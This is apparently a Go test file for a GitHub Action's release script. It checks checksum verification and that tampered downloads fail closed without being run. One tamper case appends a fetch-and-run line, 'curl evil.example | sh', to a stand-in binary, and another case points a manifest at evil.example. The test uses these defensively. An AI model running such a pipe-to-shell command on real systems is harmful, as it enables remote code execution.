package action

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/readme2demo/readme2demo/internal/release"
	"github.com/readme2demo/readme2demo/internal/release/releasetest"
)

const (
	testVersion = "v1.2.3"
	testCommit  = "0123456789abcdef0123456789abcdef01234567"
	testRepo    = "readme2demo/readme2demo"
	testDigest  = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

// testManifest is a release manifest whose every flavour is imageRef.
func testManifest(t *testing.T, imageRef string) []byte {
	t.Helper()
	m := &release.Manifest{SchemaVersion: release.SchemaVersion, Version: testVersion, Repository: testRepo, Commit: testCommit, Images: map[string]release.Image{}}
	for _, f := range release.Flavours {
		m.Images[f.Name] = release.Image{Ref: imageRef, CLIs: f.CLIs}
	}
	var b bytes.Buffer
	assert.NilError(t, m.Encode(&b))
	return b.Bytes()
}

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// releaseAssets is what a release publishes for the Action: the manifest,
// the action binary for linux/amd64 and the checksums of both.
func releaseAssets(t *testing.T, binary, manifest []byte) map[string][]byte {
	bin := "readme2demo-action_" + strings.TrimPrefix(testVersion, "v") + "_linux_amd64"
	sums := fmt.Sprintf("%s  %s\n%s  %s\n%s  readme2demo_1.2.3_linux_amd64.tar.gz\n",
		sha256Hex(binary), bin, sha256Hex(manifest), release.ManifestFile, strings.Repeat("0", 64))
	return map[string][]byte{bin: binary, release.ManifestFile: manifest, "checksums.txt": []byte(sums)}
}

type scriptRun struct {
	code    int
	stdout  string
	outputs map[string]string
	dir     string // RUNNER_TEMP
}

// runReleaseScript runs scripts/action/release.sh as action.yml's first
// step does, with the release assets served at baseURL.
func runReleaseScript(t *testing.T, ref, repo, baseURL string, extra ...string) scriptRun {
	t.Helper()
	dir := t.TempDir()
	out := filepath.Join(dir, "github_output")
	actionPath, err := filepath.Abs("../..")
	assert.NilError(t, err)
	cmd := exec.Command("bash", filepath.Join(actionPath, "scripts/action/release.sh"))
	cmd.Env = append([]string{
		"PATH=" + os.Getenv("PATH"),
		"ACTION_REF=" + ref,
		"ACTION_REPOSITORY=" + repo,
		"ACTION_PATH=" + actionPath,
		"RUNNER_OS=Linux",
		"RUNNER_ARCH=X64",
		"RUNNER_TEMP=" + dir,
		"GITHUB_OUTPUT=" + out,
		"R2D_RELEASE_URL=" + baseURL,
	}, extra...)
	var buf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &buf, &buf
	err = cmd.Run()
	r := scriptRun{stdout: buf.String(), outputs: map[string]string{}, dir: dir}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else {
		assert.NilError(t, err)
	}
	if b, err := os.ReadFile(out); err == nil {
		for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			if k, v, ok := strings.Cut(line, "="); ok {
				r.outputs[k] = v
			}
		}
	}
	return r
}

// markerBinary is a stand-in action binary that leaves a file behind when
// it is ever executed.
func markerBinary(marker string) []byte {
	return []byte("#!/bin/sh\necho ran > " + marker + "\n")
}

func TestReleaseScriptTakesTheReleasedPath(t *testing.T) {
	t.Parallel() // a script of its own, in its own directories
	marker := filepath.Join(t.TempDir(), "ran")
	binary := markerBinary(marker)
	manifest := testManifest(t, "127.0.0.1:5000/readme2demo/readme2demo-sandbox-keyless@"+testDigest)
	base, requested := releasetest.Assets(t, testVersion, releaseAssets(t, binary, manifest))

	for _, ref := range []string{testVersion} {
		t.Run(ref, func(t *testing.T) {
			r := runReleaseScript(t, ref, testRepo, base)
			assert.Equal(t, r.code, 0, r.stdout)
			assert.Check(t, is.Equal(r.outputs["path"], "released"), r.stdout)
			assert.Check(t, is.Equal(r.outputs["version"], testVersion))
			bin := r.outputs["bin"]
			assert.Check(t, is.Equal(bin, filepath.Join(r.dir, "readme2demo-release", "readme2demo-action")))
			got, err := os.ReadFile(bin)
			assert.NilError(t, err)
			assert.Check(t, is.DeepEqual(got, binary))
			st, err := os.Stat(bin)
			assert.NilError(t, err)
			assert.Check(t, st.Mode()&0o100 != 0, "the binary is executable")
			m, err := os.ReadFile(r.outputs["manifest"])
			assert.NilError(t, err)
			assert.Check(t, is.DeepEqual(m, manifest))
			assert.Check(t, is.Contains(r.stdout, "verified readme2demo-action (amd64) and sandbox-images.json against checksums.txt"))
		})
	}
	_, err := os.Stat(marker)
	assert.Check(t, os.IsNotExist(err), "the script must not run the binary")
	assert.Check(t, is.Contains(strings.Join(requested(), " "), "/"+testVersion+"/readme2demo-action_1.2.3_linux_amd64"))
}

// The major tag and a SHA find their version in CHANGELOG.md; this
// checkout's CHANGELOG names no release yet, so both build from source.
func TestReleaseScriptBuildsFromSourceOffARelease(t *testing.T) {
	t.Parallel() // a script of its own, in its own directories
	manifest := testManifest(t, "127.0.0.1:5000/readme2demo/readme2demo-sandbox-keyless@"+testDigest)
	base, requested := releasetest.Assets(t, testVersion, releaseAssets(t, markerBinary("/dev/null"), manifest))
	for _, tc := range []struct {
		name, ref, repo, why string
	}{
		{"branch", "main", testRepo, "ref 'main' is not a release"},
		{"local path", "", "", "not used from a repository"},
		{"a tag with no release", "v9.9.9", testRepo, testRepo + " has no release v9.9.9"},
		{"a tag that is not a version", "nightly", testRepo, "ref 'nightly' is not a release"},
		{"another commit than the release's", strings.Repeat("f", 40), testRepo, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := runReleaseScript(t, tc.ref, tc.repo, base)
			assert.Equal(t, r.code, 0, r.stdout)
			assert.Check(t, is.Equal(r.outputs["path"], "source"), r.stdout)
			assert.Check(t, is.Equal(r.outputs["bin"], ""))
			assert.Check(t, is.Contains(r.stdout, "building from source"))
			if tc.why != "" {
				assert.Check(t, is.Contains(r.stdout, tc.why))
			}
			assert.Check(t, !strings.Contains(r.stdout, "::error") && !strings.Contains(r.stdout, "::warning"), "no annotation on the source path: %s", r.stdout)
		})
	}
	assert.Check(t, !strings.Contains(strings.Join(requested(), " "), "readme2demo-action_"), "no binary downloaded off a release: %v", requested())
}

// The SHA of a release commit takes the released path only when it is the
// commit the release names; CHANGELOG.md says which release to look at.
func TestReleaseScriptSHAOfARelease(t *testing.T) {
	t.Parallel() // a script of its own, in its own directories
	actionPath := t.TempDir()
	assert.NilError(t, os.MkdirAll(filepath.Join(actionPath, "scripts/action"), 0o755))
	script, err := os.ReadFile("../../scripts/action/release.sh")
	assert.NilError(t, err)
	assert.NilError(t, os.WriteFile(filepath.Join(actionPath, "scripts/action/release.sh"), script, 0o755))
	assert.NilError(t, os.WriteFile(filepath.Join(actionPath, "CHANGELOG.md"), []byte("# Changelog\n\n## [Unreleased]\n\n## [1.2.3] - 2026-08-24\n\n- first\n"), 0o644))
	manifest := testManifest(t, "127.0.0.1:5000/readme2demo/readme2demo-sandbox-keyless@"+testDigest)
	base, _ := releasetest.Assets(t, testVersion, releaseAssets(t, markerBinary("/dev/null"), manifest))

	run := func(ref string) scriptRun {
		dir := t.TempDir()
		cmd := exec.Command("bash", filepath.Join(actionPath, "scripts/action/release.sh"))
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "ACTION_REF=" + ref, "ACTION_REPOSITORY=" + testRepo, "ACTION_PATH=" + actionPath,
			"RUNNER_TEMP=" + dir, "GITHUB_OUTPUT=" + filepath.Join(dir, "out"), "R2D_RELEASE_URL=" + base}
		b, err := cmd.CombinedOutput()
		assert.NilError(t, err, string(b))
		o, _ := os.ReadFile(filepath.Join(dir, "out"))
		return scriptRun{stdout: string(b), outputs: map[string]string{"raw": string(o)}}
	}
	assert.Check(t, is.Contains(run(testCommit).outputs["raw"], "path=released"))
	assert.Check(t, is.Contains(run("v1").outputs["raw"], "path=released"))
	r := run(strings.Repeat("f", 40))
	assert.Check(t, is.Contains(r.outputs["raw"], "path=source"))
	assert.Check(t, is.Contains(r.stdout, "is not the commit of release v1.2.3 ("+testCommit+")"))
	r = run("v2")
	assert.Check(t, is.Contains(r.outputs["raw"], "path=source"))
	assert.Check(t, is.Contains(r.stdout, "CHANGELOG.md names no v2.x.y release"))
}

// A download that does not match checksums.txt fails the step before the
// binary is ever run, and is deleted.
func TestReleaseScriptFailsClosedOnATamperedDownload(t *testing.T) {
	t.Parallel() // a script of its own, in its own directories
	marker := filepath.Join(t.TempDir(), "ran")
	binary := markerBinary(marker)
	manifest := testManifest(t, "127.0.0.1:5000/readme2demo/readme2demo-sandbox-keyless@"+testDigest)
	bin := "readme2demo-action_1.2.3_linux_amd64"

	for _, tc := range []struct {
		name   string
		tamper func(a map[string][]byte)
		want   string
	}{
		{"the binary", func(a map[string][]byte) { a[bin] = append(append([]byte{}, a[bin]...), "curl evil.example | sh\n"...) },
			"checksum mismatch for " + bin + " of release v1.2.3: checksums.txt says sha256 " + sha256Hex(binary)},
		{"the manifest", func(a map[string][]byte) {
			a[release.ManifestFile] = bytes.Replace(a[release.ManifestFile], []byte("127.0.0.1:5000"), []byte("evil.example"), -1)
		}, "checksum mismatch for sandbox-images.json"},
		{"a checksums file without the binary", func(a map[string][]byte) {
			a["checksums.txt"] = []byte(sha256Hex(manifest) + "  " + release.ManifestFile + "\n")
		}, "lists " + bin + " 0 times, not once"},
		{"a missing binary", func(a map[string][]byte) { delete(a, bin) }, "download "},
		{"a manifest of another repository", func(a map[string][]byte) {
			a[release.ManifestFile] = bytes.Replace(a[release.ManifestFile], []byte(testRepo), []byte("mallory/readme2demo"), 1)
			a["checksums.txt"] = []byte(sha256Hex(binary) + "  " + bin + "\n" + sha256Hex(a[release.ManifestFile]) + "  " + release.ManifestFile + "\n")
		}, "belongs to 'mallory/readme2demo', not " + testRepo},
	} {
		t.Run(tc.name, func(t *testing.T) {
			assets := releaseAssets(t, binary, manifest)
			tc.tamper(assets)
			base, _ := releasetest.Assets(t, testVersion, assets)
			r := runReleaseScript(t, testVersion, testRepo, base)
			assert.Check(t, is.Equal(r.code, 1), r.stdout)
			assert.Check(t, is.Contains(r.stdout, "::error title=readme2demo release download::"))
			assert.Check(t, is.Contains(r.stdout, tc.want))
			assert.Check(t, is.Equal(r.outputs["path"], ""), "no path output: the step failed")
			assert.Check(t, is.Equal(r.outputs["bin"], ""))
			_, err := os.Stat(filepath.Join(r.dir, "readme2demo-release", "readme2demo-action"))
			assert.Check(t, os.IsNotExist(err), "no binary installed")
		})
	}
	_, err := os.Stat(marker)
	assert.Check(t, os.IsNotExist(err), "the tampered binary must never run")
}
